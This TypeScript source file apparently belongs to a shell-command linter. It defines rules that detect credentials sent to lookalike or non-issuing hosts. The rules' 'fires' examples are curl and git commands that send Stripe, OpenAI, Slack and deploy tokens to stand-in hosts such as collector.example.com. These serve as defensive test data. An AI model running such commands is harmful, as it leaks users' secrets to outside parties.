// Judges to whom a credential goes: to the service whose name it has, to another, or to a host that puts the name of a
// known one in front of its own.

import { rule } from '../../../core/rule.ts'
import { asciiLower } from '../../../text/ascii.ts'
import { KNOWN_HOSTS } from '../../../text/unicode/known-hosts.ts'
import { type Arg, type Command, SECRET, TAKEN } from '../../read/model.ts'
import { asWritten, type Effect, quoted, type Run } from '../../read/run.ts'

export const sendToImitator = rule({
  id: 'shell.exfil.imitated_host',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'MITRE ATT&CK T1583.001, RFC 1034 §3.1: the last labels of a name say to whom it belongs',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check the end of the host name; if it was sent, replace the credential.',
  fires: [
    'curl -H "Authorization: Bearer $STRIPE_KEY_TOKEN" https://api.stripe.com.billing.example/v1/charges',
    'git clone https://bot:$DEPLOY_TOKEN@gitlab.com.mirror.example/team/site.git',
  ],
  quiet: ['curl https://api.stripe.com/healthcheck', 'curl https://status.example.com/stripe.com'],
})

export const askImitator = rule({
  id: 'shell.network.imitated_host',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'MITRE ATT&CK T1583.001, RFC 1034 §3.1',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check the end of the host name.',
  fires: [
    'curl -O https://github.com.releases.example/tool.tar.gz',
    'git clone https://bitbucket.org.code.example/team/site.git',
  ],
  quiet: [
    'curl -O https://github.com/acme/tool/releases/tool.tar.gz',
    'git clone https://bitbucket.org/team/site.git',
  ],
})

export const sendToStranger = rule({
  id: 'shell.exfil.other_issuer',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'CWE-522, OWASP: Secrets Management Cheat Sheet',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Send the credential only to the service that issued it.',
  fires: [
    'curl -H "Authorization: Bearer $OPENAI_API_KEY" https://collector.example.com/v1/models',
    'curl -H "Authorization: Bearer $SLACK_BOT_TOKEN" https://chat.example.net/api/auth.test',
  ],
  quiet: [
    'curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models',
    'curl -H "Authorization: Bearer $SLACK_BOT_TOKEN" https://slack.com/api/auth.test',
  ],
})

const URL_HOST = /\bhttps?:\/\/(?:[^\s/@?#'"]{0,200}@)?([A-Za-z0-9][A-Za-z0-9.-]{2,200})/g
/** `Authorization:`, `X-Api-Key:`, `Cookie:`: a header that opens something. */
const OPENS = /^(?:proxy-)?authorization:|^[\w-]{0,30}(?:api|auth|access)[\w-]{0,20}(?:key|token):|^cookie:/i
const PRIVATE_END = /\.(?:internal|local|localhost|test|lan|svc|corp|home|intranet|arpa)$/

const known = new Set(KNOWN_HOSTS)
const MOST_LABELS = 12

/** The known host whose name stands in front of that of another. */
export function imitatedBy(host: string): string | null {
  if (PRIVATE_END.test(host)) return null
  const labels = host.split('.').slice(0, MOST_LABELS)
  if (known.has(labels.slice(-2).join('.'))) return null
  for (let at = 0; at + 2 < labels.length; at++) {
    const name = `${labels[at]}.${labels[at + 1]!.split('-')[0]}`
    if (known.has(name)) return name
  }
  return null
}

/** Services that nobody hosts for himself, by the names of their variables. Sources: their references, Authentication. */
const ISSUERS: Readonly<Record<string, string>> = {
  gh: 'github',
  hf: 'huggingface',
  ...Object.fromEntries(
    'github openai anthropic stripe slack huggingface cloudflare heroku digitalocean vercel netlify discord telegram paypal coinbase binance kraken twilio sendgrid datadog okta salesforce dropbox openrouter'
      .split(' ')
      .map((name) => [name, name]),
  ),
}
/** GitHub Models answers at Azure. */
const OTHER_HOSTS = /(?:^|\.)(?:ghcr\.io|azure\.com|azure-api\.net)$/

/** How their credentials begin. Sources: GitHub, Anthropic, Slack, Stripe and Hugging Face references. */
const BEGINNINGS: readonly (readonly [issuer: string, pattern: RegExp])[] = [
  ['github', /\b(?:gh[pousr]_|github_pat_)\w{20}/],
  ['anthropic', /\bsk-ant-\w/],
  ['openai', /\bsk-proj-\w/],
  ['slack', /\bxox[abprs]-\w/],
  ['stripe', /\b[sr]k_(?:live|test)_\w/],
  ['huggingface', /\bhf_[A-Za-z]{20}/],
]

function issuerOf({ text, taints, what }: Arg): string | null {
  const written = BEGINNINGS.find(([, pattern]) => pattern.test(text))
  if (written !== undefined) return written[0]
  if ((taints & SECRET) === 0 || !what.startsWith('$')) return null
  const words = asciiLower(what.slice(1, 80)).split('_')
  return words.flatMap((word) => (Object.hasOwn(ISSUERS, word) ? [ISSUERS[word]!] : []))[0] ?? null
}

const belongsTo = (host: string, issuer: string): boolean =>
  imitatedBy(host) === null &&
  (host.split('.').some((label) => label.startsWith(issuer)) || OTHER_HOSTS.test(host))

export const hostsIn = ({ text }: Arg): readonly string[] =>
  text.includes('://')
    ? [...text.slice(0, 2_000).matchAll(URL_HOST)].map(([, host]) => asciiLower(host!))
    : []

/** It opens a service with the credential that this service gave out. */
export function opensIssuer(credential: Arg, urls: readonly Arg[]): boolean {
  const issuer = issuerOf(credential)
  const hosts = urls.flatMap(hostsIn)
  return (
    issuer !== null &&
    OPENS.test(credential.text) &&
    hosts.length > 0 &&
    hosts.every((host) => belongsTo(host, issuer))
  )
}

/** Reports a credential for one service that another gets, and hosts that bear the name of another. */
export function judgeReceivers(command: Command, run: Run): void {
  const hosts = command.args.flatMap(hostsIn)
  if (hosts.length === 0) return
  const credential = credentialIn(command)
  const imitator = hosts.find((host) => imitatedBy(host) !== null)
  if (imitator !== undefined) {
    run.report(command, credential ? sendToImitator : askImitator, {
      subject: quoted(imitator),
      effect: `is not ${imitatedBy(imitator)}, whose name it bears in front${credential ? ', and gets a credential' : ''}`,
    })
    return
  }
  const issuer = credential ? issuerOf(credential) : null
  if (issuer === null || !hosts.some(isOpen) || hosts.some((host) => belongsTo(host, issuer))) return
  run.report(command, sendToStranger, {
    subject: asWritten(command),
    effect: `sends a credential of ${issuer} to ${quoted(hosts[0]!)}`,
  })
}

/** A name in the Internet. */
const isOpen = (host: string): boolean =>
  /\.[a-z]{2,}$/.test(host)
    ? !PRIVATE_END.test(host)
    : /^\d+(?:\.\d+){3}$/.test(host) && !/^(?:10|127|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(host)

const credentialIn = ({ args }: Command): Arg | undefined =>
  args.find(
    (arg, index) =>
      (arg.taints & (SECRET | TAKEN)) !== 0 ||
      OPENS.test(arg.text) ||
      /^(?:-u|--user|--oauth2-bearer|-b|--cookie)$/.test(args[index - 1]?.text ?? ''),
  )
